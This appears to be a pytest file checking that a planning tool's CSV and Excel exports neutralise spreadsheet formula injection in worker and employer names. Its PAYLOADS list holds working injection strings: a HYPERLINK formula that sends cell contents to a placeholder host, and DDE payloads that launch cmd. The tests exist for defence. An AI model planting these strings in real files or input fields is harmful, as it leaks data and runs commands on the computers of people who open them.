"""Safe cells: no file jobbus writes for Excel holds a formula, whatever text a name carries."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from planner.io import load_scenario, read_scenario_tables, to_xlsx, write_scenario, write_table
from planner.io.safe_cells import is_formula_like, safe_text, unquote_text

#: Names as an attacker would register them (issue 12): formulas, DDE, a tab or spaces first.
PAYLOADS = (
    '=HYPERLINK("http://x/?"&A2,"y")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "=***",
)


def xlsx_formula_cells(path: Path) -> list[str]:
    """Coordinates of the cells of a workbook that a spreadsheet would run as formulas."""
    wb = openpyxl.load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows()
            for c in row if c.data_type == "f"
            or (isinstance(c.value, str) and is_formula_like(c.value) and not c.quotePrefix)]


def csv_formula_cells(path: Path) -> list[str]:
    """The cells of a CSV that Excel would take as formulas."""
    with open(path, encoding="utf-8-sig", newline="") as f:
        return [c for row in csv.reader(f) for c in row if is_formula_like(c)]


def test_formula_like_text() -> None:
    """Text starting with = + - @, a tab or CR (also after spaces) is formula-like; plain
    numbers, ordinary names and blanks are not."""
    assert all(is_formula_like(p) for p in PAYLOADS)
    assert not any(is_formula_like(v) for v in ("张三", "-12.50", "+86", "1,234.00", "", "a=b"))
    assert safe_text("=1+1") == "'=1+1" and safe_text("张三") == "张三" and safe_text(3) == 3


@given(st.text(max_size=30))
def test_unquote_inverts_safe_text(text: str) -> None:
    """Whatever the text, reading back what ``safe_text`` wrote gives the text (unless it
    already began with an apostrophe before a formula character)."""
    if not (text.startswith("'") and is_formula_like(text[1:])):
        assert unquote_text(safe_text(text)) == text
    assert not is_formula_like(safe_text(text))


def test_xlsx_cell_keeps_the_text_as_typed(tmp_path: Path) -> None:
    """In an xlsx the payload is a string cell with the quote prefix, showing the exact text
    (XML stores a carriage return as a line feed)."""
    frame = pd.DataFrame({"姓名": list(PAYLOADS)})
    path = to_xlsx({"名单": frame}, tmp_path / "names.xlsx")
    ws = openpyxl.load_workbook(path)["名单"]
    cells = [ws.cell(r, 1) for r in range(2, 2 + len(PAYLOADS))]
    assert [c.value for c in cells] == [p.replace("\r", "\n") for p in PAYLOADS]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_write_table_has_no_formula(tmp_path: Path, suffix: str) -> None:
    """A table (plan file, manifest, dispatch sheet) with payload names and header holds no
    formula, in CSV and xlsx."""
    frame = pd.DataFrame({"name": list(PAYLOADS), "=bad": ["x"] * len(PAYLOADS)})
    path = write_table(frame, tmp_path / f"t{suffix}")
    found = csv_formula_cells(path) if suffix == ".csv" else xlsx_formula_cells(path)
    assert found == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_scenario_with_formula_names_round_trips(tmp_path: Path, make_scenario, fmt: str) -> None:
    """Workers and employers named like formulas (one behind a tab, which reading trims) are
    written as text and read back unchanged."""
    def poison(tables: dict) -> None:
        tables["workers"][0]["name"] = PAYLOADS[0]
        tables["workers"][1]["name"] = PAYLOADS[3]
        tables["workers"][2]["name"] = PAYLOADS[4]  # a tab first: trimmed on reading
        tables["employers"][0]["name"] = PAYLOADS[1]

    original = load_scenario(make_scenario(edit=poison))
    out = write_scenario(read_scenario_tables(make_scenario(edit=poison, folder="p")),
                         tmp_path / "out", fmt)
    for name in ("workers", "employers"):
        path = out / f"{name}.{fmt}"
        assert (csv_formula_cells(path) if fmt == "csv" else xlsx_formula_cells(path)) == []
    again = load_scenario(out)
    assert [w.name for w in again.workers] == [w.name for w in original.workers]
    assert again.workers[0].name == PAYLOADS[0]
    assert again.employers[0].name == PAYLOADS[1]
